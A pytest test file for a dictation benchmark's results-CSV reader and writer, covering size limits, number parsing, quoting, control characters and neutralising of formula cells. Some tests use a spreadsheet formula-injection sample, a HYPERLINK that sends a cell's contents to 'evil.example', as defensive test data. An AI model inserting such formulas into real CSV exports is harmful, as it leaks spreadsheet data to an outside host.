"""The results CSV read as the methodology's scorer reads it, and written back safely."""

from __future__ import annotations

import os
import stat
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from rig_support import csv_text, row, write_package

from pytest_dictbench.model import Suite
from pytest_dictbench.rig.cells import neutralise, restore
from pytest_dictbench.rig.package import load_package
from pytest_dictbench.rig.results import read_results, render_results
from pytest_dictbench.rig.rows import COLUMNS, ResultsError


@pytest.fixture
def suite(tmp_path: Path) -> Suite:
    return load_package(write_package(tmp_path / "pkg"))


def read(tmp_path: Path, suite: Suite, text: str | bytes, **kw):
    path = tmp_path / "results.csv"
    path.write_bytes(text if isinstance(text, bytes) else text.encode("utf-8"))
    return read_results(path, suite, **kw)


def refused(tmp_path: Path, suite: Suite, text: str | bytes, match: str) -> ResultsError:
    with pytest.raises(ResultsError, match=match) as info:
        read(tmp_path, suite, text)
    return info.value


def test_a_cell_over_pythons_csv_field_limit_imports(tmp_path: Path, suite: Suite) -> None:
    # R1: 150,000 characters, under our own limit, used to hit csv's 131,072
    text = ("a " * 75000).strip()
    [r] = read(tmp_path, suite, csv_text([row(raw_transcript=text)]))
    assert r.values["raw_transcript"] == text
    again = tmp_path / "again.csv"
    again.write_text(render_results([r.cells]))
    assert read_results(again, suite)[0].values["raw_transcript"] == text


def test_the_size_limit_holds_for_every_cell(tmp_path: Path, suite: Suite) -> None:
    refused_ = pytest.raises(ResultsError, match=r"row 2, column notes: the cell has 41 "
                             r"characters, more than the limit of 40")
    with refused_:
        read(tmp_path, suite, csv_text([row(notes="n" * 41)]), max_text_chars=40)


@pytest.mark.parametrize("kind", ["fifo", "device"])
def test_a_transcript_path_that_is_not_a_regular_file_is_refused_at_once(
        tmp_path: Path, suite: Suite, kind: str) -> None:
    # R3: a FIFO blocked the run, /dev/zero was read until MemoryError
    folder = tmp_path / "t"
    folder.mkdir()
    if kind == "fifo":
        os.mkfifo(folder / "x.txt")
    else:
        try:
            os.mknod(folder / "x.txt", 0o644 | stat.S_IFCHR, os.makedev(1, 5))  # /dev/zero
        except PermissionError:
            pytest.skip("creating a device node needs privileges")
    refused(tmp_path, suite, csv_text([row(raw_transcript="", raw_transcript_path="t/x.txt")]),
            r"row 2, column raw_transcript_path: 't/x\.txt' is not a regular file")


def test_a_transcript_file_larger_than_the_limit_is_not_read_whole(
        tmp_path: Path, suite: Suite) -> None:
    (tmp_path / "big.txt").write_text("x" * 1000)
    with pytest.raises(ResultsError, match=r"column raw_transcript_path: 'big\.txt': file is "
                       r"1000 bytes, over the limit"):
        read(tmp_path, suite, csv_text([row(raw_transcript="", raw_transcript_path="big.txt")]),
             max_text_chars=100)


@pytest.mark.parametrize(("column", "value"), [
    ("repetition", "\uff13"), ("repetition", "\u0663"), ("repetition", "0_3"),
    ("elapsed_seconds", "1_000"), ("elapsed_seconds", "\uff11.5"), ("edit_actions", "1_0"),
    ("elapsed_seconds", "0x10"), ("elapsed_seconds", "inf"), ("repetition", "1.0"),
])
def test_numbers_are_ascii_digits_only(tmp_path: Path, suite: Suite, column: str,
                                       value: str) -> None:
    # R4, R15
    fixture = "fix" if column == "edit_actions" else "dict-en"
    refused(tmp_path, suite, csv_text([row(fixture=fixture, **{column: value})]),
            rf"row 2, column {column}: .* is not a (whole )?number")


def test_other_spellings_of_a_number_are_exported_canonical(tmp_path: Path, suite: Suite
                                                           ) -> None:
    # R4, R5: the export carries the number, never the spelling read; -0 is zero
    rows = read(tmp_path, suite, csv_text([
        row(elapsed_seconds="-0"), row(rep=2, elapsed_seconds="+1e3"),
        row(rep=3, elapsed_seconds="2.50")]))
    assert [r.values["elapsed_seconds"] for r in rows] == [0.0, 1000.0, 2.5]
    assert str(rows[0].values["elapsed_seconds"]) == "0.0"
    assert [r.cells["elapsed_seconds"] for r in rows] == ["0.0", "1000.0", "2.50"]


def test_a_quote_inside_an_unquoted_field_is_refused(tmp_path: Path, suite: Suite) -> None:
    # R6
    text = csv_text([row(notes="NOTES")]).replace("NOTES", 'say 5" screen')
    refused(tmp_path, suite, text, r"row 2, column notes: a quote inside an unquoted field "
            r"\(quote the whole cell and double the quote\)")
    text = csv_text([row(plan="PLAN")]).replace("PLAN", 'fr"ee')
    refused(tmp_path, suite, text, r"row 2, column plan: a quote inside an unquoted field")


def test_nul_and_control_characters_are_refused(tmp_path: Path, suite: Suite) -> None:
    # R7
    refused(tmp_path, suite, csv_text([row(notes="a\x00b")]),
            r"row 2, column notes: control character U\+0000 at offset 1")
    refused(tmp_path, suite, csv_text([row(raw_transcript="a\x1bb")]),
            r"row 2, column raw_transcript: control character U\+001B")
    (tmp_path / "t.txt").write_bytes(b"Send\x07 it")
    refused(tmp_path, suite, csv_text([row(raw_transcript="", raw_transcript_path="t.txt")]),
            r"row 2, column raw_transcript_path: control character U\+0007")
    [r] = read(tmp_path, suite, csv_text([row(notes="tab\there\r\nline")]))
    assert r.cells["notes"] == "tab\there\r\nline"


def test_utf16_and_unclosed_quotes_name_the_cause_and_row(tmp_path: Path, suite: Suite
                                                          ) -> None:
    # R8
    refused(tmp_path, suite, csv_text([row()]).encode("utf-16"),
            r"UTF-16 byte-order mark found; save the file as UTF-8")
    text = csv_text([row(), row(rep=2, notes="NOTE")]).replace("NOTE", '"open')
    refused(tmp_path, suite, text, r"row 3: a quote opened in this row is never closed")


def test_a_row_after_a_line_break_in_a_cell_names_its_line(tmp_path: Path, suite: Suite
                                                           ) -> None:
    # R9
    text = csv_text([row(raw_transcript="Send the draft\nto Ana before noon."),
                     row(rep=2, status="done")])
    refused(tmp_path, suite, text, r"row 3 \(line 4\), column status: unknown status 'done'")


def test_duplicated_and_concatenated_headers(tmp_path: Path, suite: Suite) -> None:
    # R10
    header = list(COLUMNS)
    header[-1] = "status"
    refused(tmp_path, suite, csv_text([], header=header),
            r"row 1: header: 'status' appears in columns 2 and 28; 'notes' is missing")
    text = csv_text([row()]) + "\ufeff" + ",".join(COLUMNS) + "\n"
    refused(tmp_path, suite, text, r"row 3: looks like a header \(two files concatenated\?\)")


def test_cells_are_trimmed_of_spaces_and_tabs_but_not_no_break_spaces(
        tmp_path: Path, suite: Suite) -> None:
    # R11
    rows = read(tmp_path, suite, csv_text([row(status=" complete"),
                                           row(rep=2, status="complete\t"),
                                           row(rep=3, status="   ")]))
    assert [r.status for r in rows] == ["complete", "complete", "blank"]
    refused(tmp_path, suite, csv_text([row(status="complete\u00a0")]),
            r"row 2, column status: unknown status")
    [r] = read(tmp_path, suite, csv_text([row()]).replace("\n", "\r"))  # CR-only line ends
    assert r.status == "complete"


@pytest.mark.parametrize("where", ["middle", "end"])
def test_an_empty_line_is_refused_as_the_scorer_refuses_it(tmp_path: Path, suite: Suite,
                                                           where: str) -> None:
    # R12
    lines = csv_text([row(), row(rep=2)]).splitlines(keepends=True)
    text = "".join([*lines[:2], "\n", *lines[2:]]) if where == "middle" else \
        "".join(lines) + "\n"
    number = 3 if where == "middle" else 4
    refused(tmp_path, suite, text, rf"row {number}: 1 cell, expected 28 \(an empty line\)")


@pytest.mark.parametrize("text", ['=HYPERLINK("http://evil.example/?"&A1,"open")',
                                  "@SUM(1+1)", "+1-555-0100", "-2", "\tindented",
                                  "'=already quoted", "''+x", "'tis plain"])
def test_formula_cells_are_neutralised_and_restored_exactly(text: str) -> None:
    # R24
    written = neutralise(text)
    assert restore(written) == text
    assert not written.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_an_exported_formula_reimports_as_the_same_text(tmp_path: Path, suite: Suite) -> None:
    evil = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    cells = row(raw_transcript=evil, app_version="=1+1", notes="@SUM(1+1)")
    path = tmp_path / "out.csv"
    path.write_text(render_results([cells]))
    body = path.read_text().splitlines()[1]
    assert ",'=1+1," in body and "\"'=HYPERLINK(" in body and ",'@SUM(1+1)" in body
    [r] = read_results(path, suite)
    assert (r.cells["app_version"], r.values["raw_transcript"], r.cells["notes"]) == (
        "=1+1", evil, "@SUM(1+1)")


########################################################################################
# Properties: a valid row mutated in one field is imported with its value or refused
# naming its row and column.
########################################################################################

_text = st.text(st.characters(codec="utf-8", exclude_categories=("Cs",)), max_size=30)


@settings(max_examples=120, deadline=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(column=st.sampled_from([c for c in COLUMNS if c not in (
    "raw_transcript_path", "final_transcript_path")]), value=_text)
def test_one_mutated_field_imports_as_written_or_names_row_and_column(
        tmp_path: Path, suite: Suite, column: str, value: str) -> None:
    """Every file is either imported, the mutated cell read back as written (numbers as
    the same number), or refused with row 2 and the mutated column (or the whole row)."""
    cells = row(**{column: value})
    path = tmp_path / "p.csv"
    path.write_text(render_results([cells]), encoding="utf-8")
    try:
        [r] = read_results(path, suite)
    except ResultsError as exc:
        text = str(exc)
        assert "row 2" in text, text
        assert exc.column is None or column in exc.column or exc.column in (
            "run_id", "repetition") or exc.column in suite.case("dict-en").data[
            "required_fields"], text
        return
    except ValueError:  # a row that reads but cannot be placed: never silently
        raise
    read_back = r.cells[column] if column not in ("raw_transcript", "final_transcript") \
        else r.values[column] or ""
    if column in ("elapsed_seconds", "correction_seconds", "edit_actions",
                  "speaker_turns_correct", "speaker_turns_total", "repetition"):
        shown = read_back.strip(" \t")
        assert (float(shown) == float(value.strip(" \t"))) if shown else \
            not value.strip(" \t")
    elif column in ("raw_transcript", "final_transcript"):
        assert read_back == value.replace("\r\n", "\n").replace("\r", "\n").removesuffix("\n")
    else:
        assert read_back == value


@settings(max_examples=200, deadline=None)
@given(_text)
def test_neutralise_is_reversible_and_never_starts_a_formula(text: str) -> None:
    """For every text: restore(neutralise(t)) == t, and the written cell never starts
    with a character a spreadsheet runs as a formula."""
    written = neutralise(text)
    assert restore(written) == text
    assert not written.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_a_malformed_non_complete_row_is_an_exclusion_not_a_refusal(
        tmp_path: Path, suite: Suite) -> None:
    # R14: the scorer checks only complete rows and scores the rest of such a file
    from pytest_dictbench.rig.results import Exclusion

    cells = dict.fromkeys(COLUMNS, "")
    cells.update(benchmark_version="1.0.0", status="not_tested", app_id="app2",
                 fixture_id="fix")
    unknown = dict(cells, app_id="app9", repetition="7", run_id="x")
    failed = row(rep=2, status="failed", run_id="")
    found: list[Exclusion] = []
    rows = read_results(_write(tmp_path, csv_text([row(), cells, unknown, failed])), suite,
                        exclusions=found)
    assert [r.number for r in rows] == [2]
    assert [(e.row, e.status, e.app_id, e.reason) for e in found] == [
        (3, "not_tested", "app2", "repetition: '' is outside 1..3"),
        (4, "not_tested", "app9", "app_id: unknown app 'app9' (the package's products: "
                                  "app1, app2)"),
        (5, "failed", "app1", "run_id: a row with a status needs a run_id")]
    assert found[0].describe() == ("row 3 (not_tested, app2, fix): excluded: repetition: '' "
                                   "is outside 1..3")


def test_a_complete_row_is_held_to_every_rule(tmp_path: Path, suite: Suite) -> None:
    refused(tmp_path, suite, csv_text([row(repetition="")]),
            r"row 2, column repetition: '' is outside 1..3")


def test_a_blank_template_row_is_a_blank_exclusion(tmp_path: Path, suite: Suite) -> None:
    # R13
    found: list = []
    text = csv_text([row()]) + "," * 27 + "\n"
    assert len(read_results(_write(tmp_path, text), suite, exclusions=found)) == 1
    assert [(e.row, e.status, e.app_id, e.fixture_id) for e in found] == [(3, "blank", "", "")]


def _write(tmp_path: Path, text: str) -> Path:
    path = tmp_path / "results.csv"
    path.write_text(text, encoding="utf-8")
    return path


def test_an_empty_transcript_is_one_result_inline_or_as_an_empty_file(
        tmp_path: Path, suite: Suite) -> None:
    # R25: inline blank was refused, a 0-byte file scored as the empty result
    from pytest_dictbench.methods.rig.scoring import run_metrics

    (tmp_path / "empty.txt").write_bytes(b"")
    inline, from_file = read(tmp_path, suite, csv_text([
        row(raw_transcript=""), row(rep=2, raw_transcript="", raw_transcript_path="empty.txt")]))
    fixture = suite.case("dict-en").data
    assert inline.values["raw_transcript"] == from_file.values["raw_transcript"] == ""
    assert run_metrics(fixture, inline.values) == run_metrics(fixture, from_file.values)
    assert run_metrics(fixture, inline.values)["wer"] == 1.0


@pytest.mark.parametrize("value", ["\r0", "\r", "a\rb", "x,y", 'say "hi"'])
def test_a_cell_with_a_carriage_return_round_trips(tmp_path: Path, suite: Suite,
                                                   value: str) -> None:
    """Found by the property in CI: a lone CR was written bare and split the row."""
    path = tmp_path / "p.csv"
    path.write_text(render_results([row(notes=value)]), encoding="utf-8")
    [r] = read_results(path, suite)
    assert r.cells["notes"] == value
